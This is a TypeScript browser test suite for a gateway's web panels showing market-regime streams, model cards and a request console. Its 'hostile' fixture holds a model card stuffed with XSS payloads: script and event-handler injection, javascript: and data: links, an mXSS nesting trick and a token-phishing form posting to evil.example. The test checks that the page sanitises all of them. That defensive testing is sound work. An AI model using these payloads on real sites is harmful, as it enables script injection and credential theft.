/** The panels Streams, Models and Console in Chromium, served by a gateway. */
import { cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import type { Browser, BrowserContextOptions, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { connect, type Gate } from "../../client/typescript/index.js";
import { accessibilityProblems } from "../support/accessibility.js";
import { startBrowser } from "../support/browser.js";
import { startGateway, type TestGateway } from "../support/gateway.js";

const day = 86_400_000;

let browser: Browser;
let page: Page;
let gateway: TestGateway | undefined;
let gate: Gate | undefined;
/** What the page wrote to the console as an error: what its policy blocks, and what it threw. */
let complaints: string[];

beforeAll(async () => {
  browser = await startBrowser();
});
afterAll(() => browser?.close());
afterEach(async () => {
  await page?.close();
  await gate?.close();
  await gateway?.stop();
  gate = undefined;
  gateway = undefined;
});

async function open(panel: string, options: BrowserContextOptions = {}): Promise<void> {
  complaints = [];
  page = await browser.newPage({ viewport: { width: 1_280, height: 850 }, ...options });
  page.on("console", (message) => {
    if (message.type() === "error") complaints.push(message.text());
  });
  page.on("pageerror", (error) => complaints.push(error.message));
  await page.goto(`${gateway?.http}/#/${panel}`);
  await page.waitForSelector(".connection[data-state=connected]");
}

/** Returns that part calm from turbulent: each spell is declared after a few observations. */
function returns(from: number, count: number): number[][] {
  return Array.from({ length: count }, (_, i) => {
    const t = from + i;
    const noise = Math.sin(t * t * 0.7) + Math.sin(t * 1.3);
    return [(Math.floor(t / 40) % 2 === 0 ? 0.004 : 0.03) * noise];
  });
}

const times = (from: number, count: number) => Array.from({ length: count }, (_, i) => (from + i) * day);
const parameters = { warmup: 60, refit_every: 20, min_dwell: 1, enter_probability: 0.8 };

const pushed = () =>
  page.$$eval(".changes tr[data-pushed=true] td:last-child", (cells) =>
    cells.map((cell) => cell.textContent),
  );

describe("a stream", () => {
  test("shows its past, and each change as it is pushed", async () => {
    gateway = await startGateway();
    gate = await connect(gateway.url);
    const stream = await gate.openStream("desk/SPX", { detector: "gaussian_hmm", parameters });
    await stream.observe(times(0, 200), returns(0, 200));
    await open("streams/desk%2FSPX");
    await page.waitForSelector(".stream-charts canvas");
    expect(await page.textContent(".stream-view h2")).toBe("desk/SPX");
    expect(await page.getAttribute(".stream-charts", "aria-label")).toMatch(
      /^desk\/SPX: 200 observations with \d/,
    );
    const past = await page.locator(".changes tbody tr").count();
    expect(past).toBeGreaterThan(0);
    expect(await pushed()).toEqual([]);

    const subscription = gate.subscribe("regime.desk/SPX");
    await subscription.caughtUp;
    const next = subscription[Symbol.asyncIterator]().next();
    await stream.observe(times(200, 60), returns(200, 60));
    const { value: change } = await next;
    // The row is marked as pushed, which only the event itself brings, and no question of the page.
    await page.waitForSelector(".changes tr[data-pushed=true]", { timeout: 5_000 });
    expect((await pushed()).at(-1)).toBe(`pushed, number ${change?.offset}`);
    await page.waitForSelector('.stream-charts[aria-label^="desk/SPX: 260 observations"]');
    expect(await page.locator(".changes tbody tr").count()).toBeGreaterThan(past);
    expect(complaints).toEqual([]);
  });

  test("shows what was missed while the gateway was away, each once and in order", async () => {
    const data = await mkdtemp(join(tmpdir(), "headgate-page-"));
    try {
      gateway = await startGateway({ data });
      const { port } = gateway;
      gate = await connect(gateway.url, { onEvent() {} });
      const stream = await gate.openStream("SPX", { detector: "gaussian_hmm", parameters });
      await open("streams/SPX");
      await page.waitForSelector(".stream-view h2:text-is('SPX')");
      await stream.observe(times(0, 150), returns(0, 150));
      await page.waitForSelector(".changes tr[data-pushed=true]");
      await gateway.stop();
      await page.waitForSelector(".connection[data-state=away]");
      gateway = await startGateway({ data, port });
      await stream.observe(times(150, 250), returns(150, 250));
      const { offset = 0 } = await lastOffset();
      expect(offset).toBeGreaterThan(4);
      const all = Array.from({ length: offset }, (_, i) => `pushed, number ${offset - i}`);
      await expect.poll(pushed, { timeout: 20_000 }).toEqual(all);
      expect(await page.locator(".changes tbody tr").count()).toBe(offset);
      await page.waitForSelector('.stream-charts[aria-label^="SPX: 400 observations"]');
    } finally {
      await rm(data, { recursive: true, force: true });
    }
  });

  test("that is silent says for how long, and one that is not there says so", async () => {
    gateway = await startGateway();
    gate = await connect(gateway.url);
    const stream = await gate.openStream("quiet", { detector: "gaussian_hmm" });
    await stream.observe([1, 2, 3], [[1], [2], [3]]);
    await open("streams/quiet");
    await page.waitForSelector('.silence:text-matches("^No observation for [0-9]+ s[.]$")', {
      timeout: 20_000,
    });
    await page.evaluate("location.hash = '#/streams/%3Cb%3E'");
    await page.waitForSelector(".stream-view .problem:not(:empty)");
    expect(await page.textContent(".stream-view h2")).toBe("<b>");
    expect(await page.locator(".stream-view h2 *").count()).toBe(0);
    // Nothing is said of what is not there, and nothing can be chosen for it.
    expect(await page.isVisible(".stream-view .regime")).toBe(false);
    expect(await page.isVisible(".stream-view select")).toBe(false);
    expect(await page.isVisible("text=The regime has not changed")).toBe(false);
  });

  test("that is the only one is opened at once, and its list can be gone back to", async () => {
    gateway = await startGateway();
    await open("streams");
    await page.waitForSelector("text=There are no streams yet.");
    expect(await page.isVisible(".stream-list")).toBe(false);
    gate = await connect(gateway.url);
    const stream = await gate.openStream("a/b", { detector: "gaussian_hmm" });
    await stream.observe([1, 2, 3], [[1], [2], [3]]);
    await page.waitForSelector("text=1 stream.");
    expect(await page.isVisible(".stream-view")).toBe(false);
    await page.reload();
    await page.waitForSelector(".stream-view h2:text-is('a/b')");
    await page.click('.tabs a:text-is("Streams")');
    await page.waitForSelector(".stream-view", { state: "hidden" });
    await page.waitForTimeout(1_500);
    expect(await page.isVisible(".stream-view")).toBe(false);
  });
});

test("streams are listed as they are, ordered by a click, and found by name beyond what a sample holds", async () => {
  gateway = await startGateway();
  gate = await connect(gateway.url);
  const feed = gate;
  const openOne = (name: string) => feed.openStream(name, { detector: "gaussian_hmm" });
  await Promise.all(Array.from({ length: 520 }, (_, i) => openOne(`many/${i}`)));
  await (await openOne("zz/last")).observe([1], [[1]]);
  await open("streams");
  const names = () => page.locator(".stream-list tbody th").allTextContents();
  const count = () => page.textContent(".streams-aside > .hint");
  await expect.poll(count).toBe("500 of 521 streams; filter by name, as it is written, to find the others.");
  await page.fill("#stream-filter", "zz/");
  await expect.poll(names).toEqual(["zz/last"]);
  expect(await page.locator(".stream-list .of-regime").last().textContent()).toBe("unknown");
  await page.fill("#stream-filter", "many/51");
  await expect.poll(async () => (await names()).length).toBe(11);
  await page.click("button.sort:text-is('Stream')");
  await page.waitForSelector(".stream-list th.of-name[aria-sort=ascending]");
  expect((await names()).slice(0, 3)).toEqual(["many/51", "many/510", "many/511"]);
  // The keyboard opens a stream, and its name alone does, too.
  await page.focus(".stream-list tbody a");
  await page.keyboard.press("Enter");
  await page.waitForSelector(".stream-view h2:text-is('many/51')");
  await page.fill("#stream-filter", "zz/last");
  await page.press("#stream-filter", "Enter");
  await page.waitForSelector(".stream-view h2:text-is('zz/last')");
  expect(complaints).toEqual([]);
});

/** The number of the newest event of the stream, as another subscriber is told it. */
async function lastOffset(): Promise<{ offset?: number }> {
  const subscription = gate?.subscribe("regime.SPX");
  await subscription?.caughtUp;
  const cursor = subscription?.cursor;
  subscription?.close();
  return cursor !== undefined && "offset" in cursor ? { offset: Number(cursor.offset) } : {};
}

const hostile = `# A card

<script>window.ran = "script"</script>
<img src="x" onerror="window.ran = 'onerror'">

![a picture](https://tracker.example/pixel.png)

<svg onload="window.ran = 'svg'"><a xlink:href="javascript:window.ran='xlink'">x</a></svg>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<style>* { display: none }</style>
<form action="https://evil.example"><input name="token"><button>Sign in</button></form>
<div onclick="window.ran = 'click'" style="position: fixed; inset: 0" id="panel" class="top">over everything</div>
<math><mtext><table><mglyph><style><img src=x onerror="window.ran='mxss'"></style></mglyph></table></mtext></math>

[run](javascript:window.ran='link') [data](data:text/html,<script>window.ran='data'</script>)
[docs](docs/x.md) [paper](https://paper.example/x "t") <https://plain.example/>
[hidden](https://gate.example@evil.example/)

| a | b |
|---|---|
| 1 | \`2\` |
`;

describe("the models", () => {
  test("show a stranger's card without anything of it running, loading or covering the page", async () => {
    const models = await mkdtemp(join(tmpdir(), "headgate-page-models-"));
    try {
      const shipped = fileURLToPath(new URL("../../models/market-impact", import.meta.url));
      await cp(shipped, join(models, "market-impact"), { recursive: true });
      await writeFile(join(models, "market-impact", "README.md"), hostile);
      gateway = await startGateway({ models });
      await open("models/market-impact");
      await page.waitForSelector(".card-text");
      for (const link of await page.locator(".card-text *").all()) await link.dispatchEvent("click");
      await page.waitForTimeout(300);
      expect(await page.evaluate("window.ran")).toBeUndefined();
      const forbidden =
        "script, img, svg, iframe, style, form, input, button, math, [style], [id], [class^=top], [onclick]";
      expect(await page.locator(`.card-text :is(${forbidden})`).count()).toBe(0);
      const links = await page.$$eval(".card-text a", (all) =>
        all.map((link) => [link.getAttribute("href"), link.getAttribute("rel"), link.textContent]),
      );
      expect(links).toEqual([
        ["https://paper.example/x", "noopener noreferrer", "paper (paper.example)"],
        ["https://plain.example/", "noopener noreferrer", "https://plain.example/"],
      ]);
      const text = await page.textContent(".card-text");
      expect(text).toContain("[image: a picture]");
      expect(text).toContain("over everything");
      expect(await page.locator(".card-text table td").allTextContents()).toEqual(["1", "2"]);
      // Nothing was left for the policy to block.
      expect(complaints).toEqual([]);
    } finally {
      await rm(models, { recursive: true, force: true });
    }
  });

  test("show the names that stand for a version, until when it answers, and that it has expired", async () => {
    const models = await mkdtemp(join(tmpdir(), "headgate-page-models-"));
    try {
      const folder = join(models, "market-impact");
      await cp(fileURLToPath(new URL("../../models/market-impact", import.meta.url)), folder, {
        recursive: true,
      });
      const config = JSON.parse(await readFile(join(folder, "config.json"), "utf8"));
      const aliases = { champion: "1", challenger: "1" };
      await writeFile(join(folder, "config.json"), JSON.stringify({ ...config, aliases }));
      const expiring = (at: string) =>
        writeFile(join(folder, "1", "version.json"), JSON.stringify({ expires_at: at }));
      await expiring("2099-12-31T22:00:00Z");
      gateway = await startGateway({ models });
      await open("models/market-impact");
      const row = page.locator(".versions tbody tr").first();
      await expect
        .poll(() => row.textContent())
        .toMatch(/^1champion, challengerready100 %2099-12-31 22:00 UTC/);
      await expiring("2020-01-01T00:00:00Z");
      await expect
        .poll(() => row.textContent(), { timeout: 20_000 })
        .toMatch(/^1champion, challengerunavailable/);
      await page.waitForSelector("text=it expired at 2020-01-01T00:00:00.000Z");
    } finally {
      await rm(models, { recursive: true, force: true });
    }
  });

  test("are listed with their state, and one is opened by the keyboard with its versions and its card", async () => {
    gateway = await startGateway();
    await open("models");
    await page.waitForSelector(".model-list a");
    await page.fill("#model-filter", "impact");
    await expect.poll(() => page.locator(".model-list a").count()).toBe(1);
    await page.focus(".model-list a");
    await page.keyboard.press("Enter");
    await page.waitForSelector(".versions tbody tr");
    expect(await page.locator(".versions tbody tr").first().textContent()).toMatch(/^1–ready100 %never/);
    expect(await page.getAttribute(".traffic-bar", "aria-label")).toBe("Traffic: version 1 (100 %)");
    await page.waitForSelector(".card-text h3:text-is('market-impact')");
    await page.evaluate("location.hash = '#/models/%3Cb%3Egone'");
    await page.waitForSelector("text=This gateway has no model named <b>gone now.");
    await page.evaluate("location.hash = '#/models/news-tone'");
    await page.waitForSelector(".card-text h3:text-is('news-tone')");
    expect(await page.isVisible("text=This gateway has no model")).toBe(false);
    expect(complaints).toEqual([]);
  });
});

describe("the console", () => {
  const answered = () => page.waitForSelector(".answer-tables");
  const value = (label: string) => page.textContent(`.timing div:has(dt:text-is("${label}")) dd`);

  test("asks a model with an example, and shows its answer and its timing", async () => {
    gateway = await startGateway();
    await open("console");
    await page.waitForSelector("#console-servable option", { state: "attached" });
    await page.selectOption("#console-servable", "Models/news-tone/");
    await page.fill("textarea[id='console-inputs.text']", "Profits rose, and more.\nLosses.");
    await page.keyboard.press("Control+Enter");
    await answered();
    expect(await page.locator("table.answer tbody tr").count()).toBe(2);
    expect(await value("batch")).toBe("2");
    expect(await value("backend")).toContain("onnxruntime");
    for (const label of ["round trip", "waited", "computed"])
      expect(await value(label)).toMatch(/^[\d.]+ ms$/);
    await page.click("button:text-is('JSON')");
    expect(JSON.parse((await page.textContent(".answer-json")) ?? "")).toMatchObject({
      label: { shape: [2] },
    });
    expect(await page.locator(".history li").count()).toBe(1);
    expect(complaints).toEqual([]);
  });

  test("shows a refusal beside the field that it names, its own and the gateway's", async () => {
    gateway = await startGateway();
    await open("console");
    await page.waitForSelector("#console-servable option", { state: "attached" });
    await page.selectOption("#console-servable", "Fits/pca/");
    await page.click("button:text-is('Send')");
    const problem = (field: string) => page.textContent(`[id='console-${field}-problem']`);
    expect(await problem("inputs.X")).toBe("This input is required.");
    await page.fill("[id='console-inputs.X']", "1,2\n3,x");
    await page.click("button:text-is('Send')");
    expect(await problem("inputs.X")).toBe('Line 2, column 2: "x" is not a number.');
    await page.fill("[id='console-inputs.X']", "1,2\n3,4\n5,7");
    await page.click("summary:text-matches('^Parameters')");
    await page.fill("[id='console-parameters.n_components']", "99");
    await page.click("button:text-is('Send')");
    await page.waitForSelector("[id='console-parameters.n_components'][aria-invalid=true]");
    expect(await problem("parameters.n_components")).toBe("99 is not between 0 and min(n, p) = 2");
    expect(await page.evaluate("document.activeElement.id")).toBe("console-parameters.n_components");
    await page.fill("[id='console-parameters.n_components']", "1");
    await page.click("button:text-is('Send')");
    await answered();
    expect(await problem("parameters.n_components")).toBe("");
    // The refused request of the history fills the form again.
    await page.click(".history li:last-child button");
    expect(await page.inputValue("[id='console-parameters.n_components']")).toBe("99");
    expect(await page.inputValue("[id='console-inputs.X']")).toBe("1,2\n3,4\n5,7");
  });

  test("gives an example to a fit whose inputs are all optional, of which it needs one", async () => {
    gateway = await startGateway();
    await open("console");
    await page.waitForSelector("#console-servable option", { state: "attached" });
    await page.selectOption("#console-servable", "Fits/monte_carlo_var/");
    await page.click("button:text-is('Fill with an example')");
    await page.click("button:text-is('Send')");
    await answered();
    expect(await page.isVisible("textarea[id='console-inputs.X']")).toBe(true);
  });

  test("offers what the gateway serves after it was started again", async () => {
    const models = await mkdtemp(join(tmpdir(), "headgate-page-models-"));
    try {
      const shipped = (name: string) => fileURLToPath(new URL(`../../models/${name}`, import.meta.url));
      await cp(shipped("market-impact"), join(models, "market-impact"), { recursive: true });
      gateway = await startGateway({ models });
      const { port } = gateway;
      await open("console");
      const offered = () =>
        page.$$eval("#console-servable option[value^='Models/']", (all) =>
          all.map(({ textContent }) => textContent),
        );
      await expect.poll(offered).toEqual(["market-impact"]);
      await page.fill("textarea[id='console-inputs.X']", "what somebody typed");
      await gateway.stop();
      await rm(join(models, "market-impact"), { recursive: true });
      await cp(shipped("news-tone"), join(models, "news-tone"), { recursive: true });
      gateway = await startGateway({ models, port });
      await expect.poll(offered, { timeout: 20_000 }).toEqual(["news-tone"]);
      await page.waitForSelector("textarea[id='console-inputs.text']");
      await page.selectOption("#console-servable", "Applications of fits/pca.apply/");
      await page.waitForSelector("text=/send pca with keep_seconds/");
    } finally {
      await rm(models, { recursive: true, force: true });
    }
  });

  test("tries a detector on a stream of its own, of which nothing is left", async () => {
    gateway = await startGateway();
    await open("console");
    await page.waitForSelector("#console-servable option", { state: "attached" });
    await page.selectOption("#console-servable", "Detectors/gaussian_hmm/");
    await page.click("button:text-is('Fill with an example')");
    await page.click("button:text-is('Send')");
    await answered();
    expect(await page.textContent("table.answer")).toContain("regime_now");
  });
});

describe("the three panels", () => {
  test.each(["light", "dark"] as const)(
    "are accessible in the %s theme, also on a phone",
    async (colorScheme) => {
      gateway = await startGateway();
      gate = await connect(gateway.url);
      const stream = await gate.openStream("SPX", { detector: "gaussian_hmm", parameters });
      await stream.observe(times(0, 200), returns(0, 200));
      for (const width of [1_280, 390]) {
        await open("streams/SPX", { colorScheme, viewport: { width, height: 850 } });
        await page.waitForSelector(".changes tbody tr");
        await audited("streams", width);
        await page.evaluate("location.hash = '#/models/market-impact'");
        await page.waitForSelector(".card-text");
        await audited("models", width);
        await page.evaluate("location.hash = '#/console'");
        await page.waitForSelector("#console-servable option", { state: "attached" });
        await page.selectOption("#console-servable", "Fits/pca/");
        await page.click("summary:text-matches('^Parameters')");
        await page.click("button:text-is('Fill with an example')");
        await page.click("button:text-is('Send')");
        await page.waitForSelector(".answer-tables");
        await audited("console", width);
        await page.close();
      }
    },
  );

  async function audited(panel: string, width: number): Promise<void> {
    expect.soft(await accessibilityProblems(page), `${panel} at ${width}`).toEqual([]);
    const beyond = await page.evaluate("document.documentElement.scrollWidth - innerWidth");
    expect.soft(beyond, `${panel} at ${width} is wider than the screen`).toBeLessThanOrEqual(0);
  }
});
